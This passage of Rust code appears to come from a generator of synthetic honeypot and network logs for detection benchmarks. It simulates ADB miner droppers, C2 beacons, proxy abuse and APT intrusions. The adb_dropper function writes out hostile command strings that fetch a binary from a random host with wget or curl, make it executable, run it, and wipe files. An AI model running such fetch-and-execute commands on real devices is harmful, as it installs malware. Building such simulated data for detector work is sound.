                (0..c.count(1, 3)).map(|_| c.pick(&v.probe).to_owned()).collect();
            bot_session(c, t, &script, 0);
        }
        "infected_workstation" => {
            // The machine still does its user's work; the implant calls a cloud-hosted C2.
            workstation(c);
            let c2: IpAddr = c.pick(&SAAS).parse().expect("a literal address");
            let t = c.events.first().map_or(0, |e| e.timestamp.as_micros()) + c.secs(60.0, 3600.0);
            beacon_from(c, t, c2, (600.0, 3600.0), 0.5, (4, 15));
        }
        "adb_dropper" => adb_dropper(c),
        "c2_beacon" => beacon(c, (30.0, 300.0), 0.05, (20, 150)),
        "jittered_beacon" => beacon(c, (300.0, 1800.0), 0.5, (8, 40)),
        _ => proxy_abuse(c),
    }
    name
}

/// An Android-debug-bridge bot (the miners and botnets that sweep port 5555): it pushes
/// an APK or a binary, or fetches one, makes it executable and starts it, in one to three
/// sessions.
fn adb_dropper(c: &mut Ctx<'_>) {
    c.external();
    let mut t = c.anytime();
    let host = c.public_ip();
    let name = c.pick(&["ufo.apk", "trinity", "com.ufo.miner", "x86", "arm7", ".b"]);
    for _ in 0..c.count(1, 3) {
        let mut commands =
            vec![c.pick(&["cd /data/local/tmp/", "shell:cd /data/local/tmp"]).to_owned()];
        let upload = c.chance(0.5).then_some(name);
        if upload.is_none() {
            let tool = c.pick(&["busybox wget", "wget", "curl -O", "toybox wget"]);
            commands.push(format!("{tool} http://{host}/{name}"));
        }
        let apk = std::path::Path::new(name).extension().is_some_and(|e| e == "apk");
        commands.push(if apk {
            format!("pm install /data/local/tmp/{name}")
        } else {
            format!("chmod 777 {name}; ./{name}")
        });
        if c.chance(0.5) {
            commands.push(
                c.pick(&[
                    "am start -n com.ufo.miner/.MainActivity",
                    "rm -rf /data/local/tmp/*",
                    "ps | grep trinity",
                ])
                .to_owned(),
            );
        }
        t = c.adb(t, &commands, upload);
        t += c.log_secs(60.0, 6.0 * 3600.0);
    }
}

/// A dropper script in the shape Cowrie records: probes, hiding, fetch, run, persist,
/// drawn from the real commands.
fn script(c: &mut Ctx<'_>) -> Vec<String> {
    let v = c.v;
    let mut s = Vec::new();
    for _ in 0..c.count(1, 4) {
        s.push(c.pick(&v.probe).to_owned());
    }
    if c.chance(0.5) {
        s.push(c.pick(&v.stealth).to_owned());
    }
    for _ in 0..c.count(1, 2) {
        s.push(c.pick(&v.fetch).to_owned());
    }
    for _ in 0..c.count(1, 2) {
        s.push(c.pick(&v.exec).to_owned());
    }
    if c.chance(0.3) {
        s.push(c.pick(&v.persist).to_owned());
    }
    s
}

/// `sessions` logins running the same script, hours apart.
fn dropper(c: &mut Ctx<'_>, mut t: i64, sessions: usize, failures: usize) {
    let script = script(c);
    for _ in 0..sessions {
        t = bot_session(c, t, &script, failures);
        t += c.log_secs(600.0, 12.0 * 3600.0);
    }
}

fn bot_session(c: &mut Ctx<'_>, t: i64, script: &[String], failures: usize) -> i64 {
    let v = c.v;
    let mut steps = Vec::new();
    for _ in 0..failures {
        let (user, pass) = (c.skewed(&v.usernames).to_owned(), c.skewed(&v.passwords).to_owned());
        steps.push(Step::Login { user, pass, ok: false });
    }
    let user = c.pick(&["root", "root", "admin"]).to_owned();
    let pass = c.skewed(&v.passwords).to_owned();
    steps.push(Step::Login { user, pass, ok: true });
    steps.extend(script.iter().cloned().map(Step::Command));
    let client = c.skewed(&v.clients);
    c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (0.2, 3.0) })
}

/// An infected internal host calling home every `period` seconds (± `jitter` of it).
fn beacon(c: &mut Ctx<'_>, period: (f64, f64), jitter: f64, count: (usize, usize)) {
    c.internal();
    let c2 = c.public_ip();
    let t = c.anytime();
    beacon_from(c, t, c2, period, jitter, count);
}

fn beacon_from(
    c: &mut Ctx<'_>,
    mut t: i64,
    c2: IpAddr,
    period: (f64, f64),
    jitter: f64,
    count: (usize, usize),
) {
    let port = c.pick(&[443, 443, 80, 8080, 8443]);
    let app = if port == 80 || port == 8080 { AppProto::Http } else { AppProto::Tls };
    let period = c.uniform(period.0, period.1);
    let n = c.count(count.0, count.1);
    let alerts = jitter < 0.1 && c.chance(0.5);
    for i in 0..n {
        if i == 0 || c.chance(0.1) {
            let (out, inn) = (c.bytes(60, 90), c.bytes(90, 200));
            c.flow(t, IpAddr::V4(RESOLVER), 53, Transport::Udp, AppProto::Dns, out, inn, 0.02);
        }
        let (out, inn) = (c.bytes(200, 900), c.bytes(100, 600));
        let secs = c.uniform(0.05, 1.5);
        c.flow(t + 20_000, c2, port, Transport::Tcp, app, out, inn, secs);
        if alerts && i % 25 == 0 {
            c.alert(
                t,
                c2,
                port,
                "ET MALWARE Generic CnC Beacon",
                "A Network Trojan was detected",
                1,
            );
        }
        let step = period * (1.0 + c.uniform(-jitter, jitter));
        t += (step * 1e6) as i64;
    }
}

/// A bot using the honeypot as an open proxy: connectivity checks and mail relaying.
fn proxy_abuse(c: &mut Ctx<'_>) {
    c.external();
    let mut t = c.anytime();
    let v = c.v;
    for _ in 0..c.count(1, 4) {
        let pass = c.skewed(&v.passwords).to_owned();
        let mut steps = vec![Step::Login { user: "root".into(), pass, ok: true }];
        for _ in 0..c.count(3, 25) {
            let (host, port, line) = c.pick(&TUNNEL_TARGETS);
            let bytes = if port == 80 { c.bytes(35, 400) } else { c.bytes(15, 4_000) };
            steps.push(Step::Forward { dst: Dest::Host(host), port, bytes, line: Some(line) });
        }
        let client = c.skewed(&v.clients);
        t = c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (0.05, 2.0) });
        t += c.log_secs(60.0, 6.0 * 3600.0);
    }
}

// APT.

fn apt(c: &mut Ctx<'_>) -> &'static str {
    let name = c.variant(
        &["intrusion"],
        &[(1, "low_and_slow"), (2, "business_hours"), (3, "living_off_the_land")],
    );
    if name == "living_off_the_land" {
        living_off_the_land(c);
        return name;
    }
    c.external();
    let (user, pass) = admin_credentials(c);
    let client = c.pick(&HUMAN_CLIENTS);
    let drop = c.public_ip();
    let plan = match name {
        "intrusion" => Apt {
            // The intruder's own working hours, in whatever time zone: any hour (an APT
            // only at night made the clock features a label; BENCHMARKS, the clock shortcut).
            start: c.anytime(),
            sessions: c.count(1, 2),
            between: (300.0, 1800.0),
            recon: (4, 8),
            quiet: false,
            lateral: c.count(4, 12),
            persist: true,
            exfil: c.count(2, 8),
            chunk: (5_000_000, 100_000_000),
        },
        "low_and_slow" => Apt {
            start: c.anytime(),
            sessions: c.count(3, 8),
            between: (2.0 * 3600.0, 16.0 * 3600.0),
            recon: (1, 3),
            quiet: false,
            lateral: c.count(2, 6),
            persist: true,
            exfil: c.count(2, 8),
            chunk: (500_000, 10_000_000),
        },
        _ => Apt {
            start: c.at_hour(9.0, 15.0, true),
            sessions: c.count(2, 4),
            between: (1800.0, 3.0 * 3600.0),
            recon: (1, 3),
            quiet: true,
            lateral: c.count(1, 3),
            persist: c.chance(0.5),
            exfil: c.count(1, 2),
            chunk: (2_000_000, 50_000_000),
        },
    };
    intrusion(c, &plan, &user, &pass, client, drop);
    name
}

/// An intruder with an administrator's stolen credentials working like that administrator:
/// office hours, ordinary commands with a few quiet look-arounds, hops to internal hosts
/// through the bastion, and perhaps one large transfer out.
fn living_off_the_land(c: &mut Ctx<'_>) {
    c.external();
    let (user, pass) = admin_credentials(c);
    let client = c.pick(&HUMAN_CLIENTS);
    let drop = c.public_ip();
    let mut t = c.at_hour(7.5, 18.0, true);
    for s in 0..c.count(1, 3) {
        let mut steps = vec![Step::Login { user: user.clone(), pass: pass.clone(), ok: true }];
        for _ in 0..c.count(3, 14) {
            let list: &[&str] = if c.chance(0.7) { &ADMIN_COMMANDS } else { &APT_QUIET };
            steps.push(Step::Command(c.pick(list).to_owned()));
        }
        if s == 0 {
            for _ in 0..c.count(1, 4) {
                let host = c.internal_server();
                let bytes = c.log_bytes(20_000, 5_000_000);
                steps.push(Step::Forward { dst: Dest::Ip(host), port: 22, bytes, line: None });
            }
            if c.chance(0.6) {
                let bytes = c.log_bytes(20_000_000, 800_000_000);
                steps.push(Step::Forward { dst: Dest::Ip(drop), port: 443, bytes, line: None });
            }
        }
        t = c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (2.0, 90.0) });
        t += c.log_secs(1200.0, 5.0 * 3600.0);
    }
}

struct Apt {
    start: i64,
    sessions: usize,
    /// Seconds between sessions (log-uniform).
    between: (f64, f64),
    /// Recon commands per session.
    recon: (usize, usize),
    /// Recon that reads like administration.
    quiet: bool,
    /// Internal hosts reached, spread over the sessions.
    lateral: usize,
    persist: bool,
    /// Exfiltration transfers, spread over the sessions.
    exfil: usize,
    chunk: (u64, u64),
}

/// Valid credentials, recon, lateral movement through SSH tunnels to internal hosts,
/// persistence, staging and exfiltration to a drop server, over `plan.sessions` sessions.
fn intrusion(
    c: &mut Ctx<'_>,
    plan: &Apt,
    user: &str,
    pass: &str,
    client: &'static str,
    drop: IpAddr,
) {
    let mut t = plan.start;
    let (mut lateral, mut exfil) = (plan.lateral, plan.exfil);
    for s in 0..plan.sessions {
        let last = s + 1 == plan.sessions;
        let mut steps =
            vec![Step::Login { user: user.to_owned(), pass: pass.to_owned(), ok: true }];
        for _ in 0..c.count(plan.recon.0, plan.recon.1) {
            let list: &[&str] = if plan.quiet { &APT_QUIET } else { &APT_RECON };
            steps.push(Step::Command(c.pick(list).to_owned()));
        }
        let hops = if last { lateral } else { lateral.min(c.count(0, lateral.div_ceil(2))) };
        for _ in 0..hops {
            let host = c.internal_server();
            let port = c.pick(&[22, 22, 445, 3389, 5985, 1433]);
            let bytes = c.log_bytes(2_000, 400_000);
            steps.push(Step::Forward { dst: Dest::Ip(host), port, bytes, line: None });
            let wait = c.log_secs(5.0, 300.0);
            steps.push(Step::Wait(wait));
        }
        lateral -= hops;
        if plan.persist && s == 0 {
            steps.push(Step::Command(c.pick(&APT_PERSIST).to_owned()));
        }
        let sends = if last { exfil } else { exfil.min(c.count(0, 1)) };
        if sends > 0 {
            steps.push(Step::Command(c.pick(&APT_STAGE).to_owned()));
        }
        for _ in 0..sends {
            let bytes = c.log_bytes(plan.chunk.0, plan.chunk.1);
            steps.push(Step::Forward { dst: Dest::Ip(drop), port: 443, bytes, line: None });
        }
        exfil -= sends;
        t = c.shell(t, &Shell { telnet: false, client: Some(client), steps, gap: (3.0, 120.0) });
        t += c.log_secs(plan.between.0, plan.between.1);
    }
}

/// A short benign browsing visit somewhere in the entity's activity.
fn decoy(c: &mut Ctx<'_>) {
    let (first, last) = match (c.events.first(), c.events.last()) {
        (Some(a), Some(b)) => (a.timestamp.as_micros(), b.timestamp.as_micros()),
        _ => return,
    };
    let t = if last > first {
        first + (c.uniform(0.0, 1.0) * (last - first) as f64) as i64
    } else {
        first
    };
    let agent = c.pick(&BROWSERS);
    let port = c.src_port();
    let n = c.count(3, 15);
    browse(c, t, port, agent, n);
}
